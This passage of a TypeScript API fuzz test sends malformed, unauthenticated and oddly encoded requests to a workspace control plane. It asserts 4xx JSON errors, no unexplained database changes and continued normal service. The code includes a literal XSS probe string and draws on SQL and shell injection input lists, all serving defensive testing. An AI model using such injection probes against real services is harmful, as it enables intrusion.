          else b[fld] = rndValue(0);
        }
        body = json(b);
      } else body = json(rndValue(0));
    }
    if (r.body === 'create' && maybeValidCreate(body ?? '')) continue;
    const c: Case = { what: `random ${r.method} ${r.path}`, method: r.method, target, mayMutate: touches(r, target) };
    if (body !== undefined) c.body = body;
    const k = rnd();
    if (k < 0.1) c.auth = pick(BAD_AUTH);
    else if (k < 0.2 && body !== undefined) c.contentType = pick([...WRONG_CT, ...ODD_CT]);
    if (rnd() < 0.1) c.extraHeaders = [['X-Request-Id', rndString().replace(/[^\x20-\x7e]/g, '?')]];
    cases.push(c);
    made++;
  }
  return cases;
}

function chunked(s: string): Buffer {
  const parts: Buffer[] = [];
  const b = Buffer.from(s);
  for (let i = 0; i < b.length; i += 8192) {
    const piece = b.subarray(i, i + 8192);
    parts.push(Buffer.from(`${piece.length.toString(16)}\r\n`), piece, Buffer.from('\r\n'));
  }
  parts.push(Buffer.from('0\r\n\r\n'));
  return Buffer.concat(parts);
}

// ---------------------------------------------------------------- database snapshots

type Snapshot = Map<string, string>;

async function snapshot(databaseUrl: string): Promise<Snapshot> {
  const c = new pg.Client({ connectionString: databaseUrl });
  await c.connect();
  try {
    const s: Snapshot = new Map();
    const take = async (table: string, key: string, sql: string) => {
      const { rows } = await c.query(sql);
      for (const r of rows as Record<string, unknown>[]) s.set(`${table}:${String(r[key])}`, JSON.stringify(r));
    };
    await take('workspaces', 'id', 'SELECT * FROM workspaces ORDER BY id');
    // Reservations and what placement depends on; capacity and heartbeats move by themselves.
    await take('hosts', 'id', 'SELECT id, arch, draining, revision, reserved_memory_mb, reserved_millicpus, reserved_disk_mb, reserved_workspaces FROM hosts ORDER BY id');
    await take('users', 'id', 'SELECT * FROM users ORDER BY id');
    await take('user_quotas', 'user_id', 'SELECT * FROM user_quotas ORDER BY user_id');
    await take('team_quotas', 'team_id', 'SELECT * FROM team_quotas ORDER BY team_id');
    await take('events', 'id', "SELECT id, kind, actor, workspace_id, host_id, data FROM events WHERE actor NOT LIKE 'agent:%' ORDER BY id");
    return s;
  } finally {
    await c.end();
  }
}

// ---------------------------------------------------------------- the test

interface Failure {
  c: Case;
  status?: number;
  body?: string;
  error?: string;
  why: string;
}

function describeCase(c: Case): string {
  const body = c.body === undefined ? '' : ` body(${c.body.length} bytes)=${JSON.stringify((typeof c.body === 'string' ? c.body : c.body.toString('latin1')).slice(0, 160))}`;
  const auth = c.auth === undefined ? '' : ` auth=${JSON.stringify(c.auth)?.slice(0, 60)}`;
  const ct = c.contentType === undefined ? '' : ` content-type=${JSON.stringify(c.contentType)?.slice(0, 60)}`;
  return `[${c.what}] ${c.method} ${c.target.length > 200 ? `${c.target.slice(0, 200)}…(${c.target.length})` : c.target}${auth}${ct}${body}`;
}

describe('REST API fuzz', () => {
  let t: TestControlPlane;
  let agent: AgentProcess;
  const hostId = uniqueId('fuzz');
  const user = uniqueId('fzu');
  const rejUser = uniqueId('fzrej');
  let fx: Fixture;
  let baseline: Snapshot;
  let port: number;
  const rejectProbes: { ws: string; reason: string | Buffer }[] = [];

  before(async function () {
    this.timeout(60_000);
    t = await startTestControlPlane();
    port = Number(new URL(t.api.baseUrl).port);
    agent = await spawnAgent({ hostId, controlPlane: t.grpcAddress });
    await t.api.waitHostConnected(hostId);
    const running = await t.api.createWorkspace(user, { projectName: 'fz', arch: 'linux-x64', tier: 'tiny', name: 'running' });
    expect(running.status).to.equal('RUNNING');
    const pending = await t.api.createWorkspace(user, { projectName: 'fz', arch: 'linux-x64', tier: 'xl', name: 'pending' }, 0);
    expect(pending.status).to.equal('PENDING_APPROVAL');
    // Workspaces waiting for approval, one per reject reason probed below.
    expect((await t.api.call('PUT', `/v1/users/${rejUser}/quota`, { maxWorkspaces: 1000, maxDiskGb: 1e9 })).status).to.equal(200);
    const reasons: (string | Buffer)[] = [
      ...SQL.slice(0, 3), ...SHELL.slice(0, 4), ...UNICODE.filter((s) => s !== '<script>alert(1)</script>'), 'r'.repeat(500),
      Buffer.from('{"reason":"bad \\ud800 surrogate"}'), Buffer.concat([Buffer.from('{"reason":"'), Buffer.from([0xff, 0xc3, 0x28, 0xed, 0xa0, 0x80]), Buffer.from('"}')]),
    ];
    for (const [i, reason] of reasons.entries()) {
      const w = await t.api.createWorkspace(rejUser, { projectName: 'fz', arch: 'linux-x64', tier: 'xl', name: `p${i}` }, 0);
      rejectProbes.push({ ws: w.id, reason });
    }
    fx = {
      user,
      running: running.id,
      pending: pending.id,
      host: hostId,
      fakeWs: '6f1c3b8e-1b2a-4c3d-8e9f-0a1b2c3d4e5f',
      sacUsers: ['fz-sac-0', 'fz-sac-1', 'fz-sac-2'],
      sacTeams: ['fz-team-0', 'fz-team-1'],
      protectedUsers: [user, rejUser],
      token: t.cp.adminToken,
    };
    baseline = await snapshot(t.databaseUrl);
  });

  after(async () => {
    await agent?.kill();
    await t?.stop();
    await removeHostContainers(hostId);
  });

  const touched = { users: new Set<string>(), teams: new Set<string>(), workspaces: new Set<string>() };
  let okMutations = 0;

  it('answers thousands of malformed requests with a 4xx JSON error, never a 5xx, and lets none of them mutate', async function () {
    this.timeout(120_000);
    const cases = generate(fx);
    expect(cases.length).to.be.at.least(2000);
    const failures: Failure[] = [];
    const statuses = new Map<number, number>();
    let next = 0;
    const worker = async () => {
      for (;;) {
        const c = cases[next++];
        if (!c) return;
        const headers: [string, string][] = [];
        const auth = c.auth === undefined ? `Bearer ${fx.token}` : c.auth;
        if (auth !== null) headers.push(['Authorization', auth]);
        if (c.body !== undefined) {
          const ct = c.contentType === undefined ? 'application/json' : c.contentType;
          if (ct !== null) headers.push(['Content-Type', ct]);
        }
        headers.push(...(c.extraHeaders ?? []));
        let res: RawResponse;
        try {
          res = await rawRequest(port, c.method, c.target, headers, c.body === undefined ? undefined : Buffer.isBuffer(c.body) ? c.body : Buffer.from(c.body, 'utf8'));
        } catch (e) {
          failures.push({ c, error: (e as Error).message, why: 'no HTTP response' });
          continue;
        }
        statuses.set(res.status, (statuses.get(res.status) ?? 0) + 1);
        const fail = (why: string) => failures.push({ c, status: res.status, body: res.text.slice(0, 500), why });
        const err = res.json as { error?: unknown; message?: unknown; field?: unknown; requestId?: unknown } | undefined;
        if (res.status >= 500 && !(res.status === 503 && err?.error === 'CAPACITY_EXHAUSTED')) fail('5xx');
        if (res.status >= 400 && c.method !== 'HEAD') {
          if (!err || typeof err !== 'object' || typeof err.error !== 'string' || typeof err.message !== 'string' || !err.message) fail('error body is not {error, message} JSON');
          else if (typeof err.requestId !== 'string') fail('error body without requestId');
        }
        if (c.expect && !c.expect.includes(res.status)) fail(`expected ${c.expect.join(' or ')}`);
        if (c.field && res.status === 400 && err?.field !== c.field) fail(`expected the error to name ${c.field}`);
        if (res.status >= 200 && res.status < 300 && MUTATING.has(c.method)) {
          if (!c.mayMutate) fail('a malformed mutating request succeeded');
          else {
            okMutations++;
            for (const u of c.mayMutate.users ?? []) touched.users.add(u);
            for (const tm of c.mayMutate.teams ?? []) touched.teams.add(tm);
            for (const w of c.mayMutate.workspaces ?? []) touched.workspaces.add(w);
          }
        }
      }
    };
    const started = Date.now();
    await Promise.all(Array.from({ length: 12 }, () => worker()));
    const ms = Date.now() - started;
    const summary = [...statuses.entries()].sort((a, b) => a[0] - b[0]).map(([s, n]) => `${s}×${n}`).join(' ');
    // Visible in the mocha output: how much was sent and what came back.
    console.log(`      ${cases.length} requests in ${ms} ms: ${summary}; ${okMutations} allowed 2xx mutations on fuzz-owned ids`);
    // Grouped by rule and route, with a few examples of each, so one defect reads as one.
    const groups = new Map<string, Failure[]>();
    for (const f of failures) {
      const route = f.c.what.replace(/^.* of (?=[A-Z]+ \/)/, '');
      const key = `${f.why} — ${f.c.method} ${route.startsWith(f.c.method) ? route.slice(f.c.method.length + 1) : f.c.target.split('?')[0]?.replace(/[0-9a-f-]{36}/g, '{id}')}`;
      groups.set(key, [...(groups.get(key) ?? []), f]);
    }
    const shown = [...groups.entries()].map(
      ([key, fs]) => `* ${key}: ${fs.length} requests, e.g.\n${fs.slice(0, 3).map((f) => `    ${describeCase(f.c)}\n      → ${f.status ?? ''} ${f.error ?? f.body ?? ''}`).join('\n')}`,
    );
    expect(failures.length, `${failures.length} of ${cases.length} requests broke a rule:\n${shown.join('\n')}\n`).to.equal(0);
  });

  it('stores unusual reject reasons as given, or refuses them, never a 5xx', async () => {
    const failures: string[] = [];
    for (const p of rejectProbes) {
      const raw = Buffer.isBuffer(p.reason) ? p.reason : Buffer.from(JSON.stringify({ reason: p.reason }));
      const res = await rawRequest(port, 'POST', `/v1/workspaces/${p.ws}/reject`, [['Authorization', `Bearer ${fx.token}`], ['Content-Type', 'application/json']], raw);
      const body = res.json as { error?: string; status?: string; message?: string } | undefined;
      const what = `POST /v1/workspaces/${p.ws}/reject body=${JSON.stringify(raw.toString('latin1'))}`;
      if (res.status >= 500) failures.push(`${what} → ${res.status} ${res.text}`);
      else if (res.status === 200) {
        touched.workspaces.add(p.ws);
        okMutations++;
        if (body?.status !== 'REJECTED') failures.push(`${what} → 200 but status ${body?.status}`);
        if (typeof p.reason === 'string' && isWellFormed(p.reason) && body?.error !== `rejected by an admin: ${p.reason}`) {
          failures.push(`${what} → stored ${JSON.stringify(body?.error)}`);
        }
      } else if (res.status !== 400 || typeof body?.message !== 'string') failures.push(`${what} → ${res.status} ${res.text}`);
    }
    expect(failures.length, `${failures.join('\n')}\n`).to.equal(0);
  });

  it('changed no row that a successful request does not explain (workspaces, hosts and reservations, users, quotas, events)', async () => {
    const after = await snapshot(t.databaseUrl);
    const unexplained: string[] = [];
    for (const key of new Set([...baseline.keys(), ...after.keys()])) {
      const a = baseline.get(key);
      const b = after.get(key);
      if (a === b) continue;
      const [table, ...rest] = key.split(':');
      const id = rest.join(':');
      const row = JSON.parse((b ?? a) as string) as { workspace_id?: string; data?: { userId?: string } };
      const explained =
        (table === 'workspaces' && touched.workspaces.has(id)) ||
        ((table === 'users' || table === 'user_quotas') && touched.users.has(id)) ||
        (table === 'team_quotas' && touched.teams.has(id)) ||
        (table === 'events' && a === undefined && ((row.workspace_id && touched.workspaces.has(row.workspace_id)) || (row.data?.userId && touched.users.has(row.data.userId))));
      if (!explained) unexplained.push(`${key}\n    before: ${a ?? '(none)'}\n    after:  ${b ?? '(none)'}`);
    }
    expect(unexplained.length, `${unexplained.slice(0, 20).join('\n')}\n`).to.equal(0);
    // The fixtures in particular: byte for byte.
    for (const key of [`workspaces:${fx.running}`, `workspaces:${fx.pending}`, `hosts:${hostId}`, `users:${user}`]) {
      expect(after.get(key), key).to.equal(baseline.get(key));
    }
    expect(after.has(`user_quotas:${user}`)).to.equal(false);
  });

  it('still serves normally afterwards: the host is connected, the running workspace runs, and a valid create becomes RUNNING', async () => {
    const h = await t.api.waitHostConnected(hostId, 10_000);
    expect(h.status).to.equal('healthy');
    const w = await t.api.workspace(fx.running);
    expect(w.status).to.equal('RUNNING');
    expect((await docker().getContainer(w.containerId as string).inspect()).State.Running).to.equal(true);
    const fresh: Workspace = await t.api.createWorkspace(uniqueId('fzok'), { projectName: 'fz', arch: 'linux-x64', tier: 'tiny' });
    expect(fresh.status, JSON.stringify(fresh)).to.equal('RUNNING');
    const ready = await t.api.call('GET', '/readyz', undefined, { token: null });
    expect(ready.status).to.equal(200);
  });
});
